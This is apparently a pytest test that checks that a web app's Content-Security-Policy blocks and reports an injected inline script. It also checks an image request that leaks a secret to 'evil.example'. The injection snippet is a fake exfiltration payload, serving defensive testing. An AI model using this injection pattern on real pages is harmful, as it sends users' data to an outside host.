"""A violation of the Content-Security-Policy, as a real browser reports it: over plain HTTP and over HTTPS."""

import json
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser

from tests.server import Server, free_port, until

INJECT = """() => {
    const script = document.createElement("script")
    script.textContent = "window.injected = true"
    const image = new Image()
    image.src = "https://evil.example/pixel?stolen=hunter2"
    document.body.append(script, image)
}"""


@pytest.fixture(params=["http", "https"])
def address(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[str, Server]]:
    """Return the address of a server, and the server. HTTPS is Caddy's, with a certificate of its own."""
    server = Server(tmp_path / "instance", workers=1, DATABASE_URL="", TRUSTED_HOPS="1")
    server.set_up()
    server.start()
    try:
        if request.param == "http":
            yield server.url, server
        else:
            with caddy(tmp_path, server.port) as port:
                yield f"https://localhost:{port}", server
    finally:
        server.stop()


@contextmanager
def caddy(folder: Path, behind: int) -> Iterator[int]:
    """Run Caddy with TLS in front of a port. Return its own port."""
    if shutil.which("caddy") is None:
        pytest.skip("caddy is not installed.")
    port = free_port()
    (folder / "Caddyfile").write_text(f"""{{
        admin off
        local_certs
        skip_install_trust
        http_port {free_port()}
        https_port {port}
        storage file_system {folder}/storage
    }}
    localhost {{
        reverse_proxy 127.0.0.1:{behind}
    }}""")
    command = ["caddy", "run", "--config", folder / "Caddyfile", "--adapter", "caddyfile"]
    with open(folder / "caddy.log", "w") as log:
        process = subprocess.Popen(command, stdout=log, stderr=log)
    try:
        ready = f"https://localhost:{port}/healthz"
        until(lambda: httpx.get(ready, verify=False).status_code == 200, 30, (folder / "caddy.log").read_text)
        yield port
    finally:
        process.terminate()
        process.wait(30)


@pytest.mark.case(91)
def test_a_violation_on_a_page_is_blocked_and_reported(chromium: Browser, address: tuple[str, Server]) -> None:
    url, server = address
    # Reports are sent outside of pages, where only the browser's own flag concerns certificates.
    browser = chromium.browser_type.launch(
        executable_path=shutil.which("chromium") or shutil.which("google-chrome"),
        args=["--no-sandbox", "--disable-quic", "--ignore-certificate-errors", "--short-reporting-delay"],
    )
    try:
        page = browser.new_page()
        page.goto(f"{url}/sign-in?secret=hunter2")
        page.evaluate(INJECT)
        assert page.evaluate("window.injected") is None
        until(lambda: len(violations(server)) == 2, 30, server.said)
    finally:
        browser.close()
    assert violations(server) == [
        "Content-Security-Policy violation: img-src blocked https://evil.example on /sign-in",
        "Content-Security-Policy violation: script-src-elem blocked inline on /sign-in",
    ]
    assert "hunter2" not in "".join(line for line in server.log.read_text().splitlines() if "/csp-reports" in line)
    assert 'pixel_csp_reports_total{directive="img-src"} 1.0' in httpx.get(f"{server.url}/metrics").text


def violations(server: Server) -> list[str]:
    """Return the messages of all logged violations."""
    lines = [line for line in server.log.read_text().splitlines() if "Content-Security-Policy" in line]
    return sorted(json.loads(line)["event"] for line in lines)
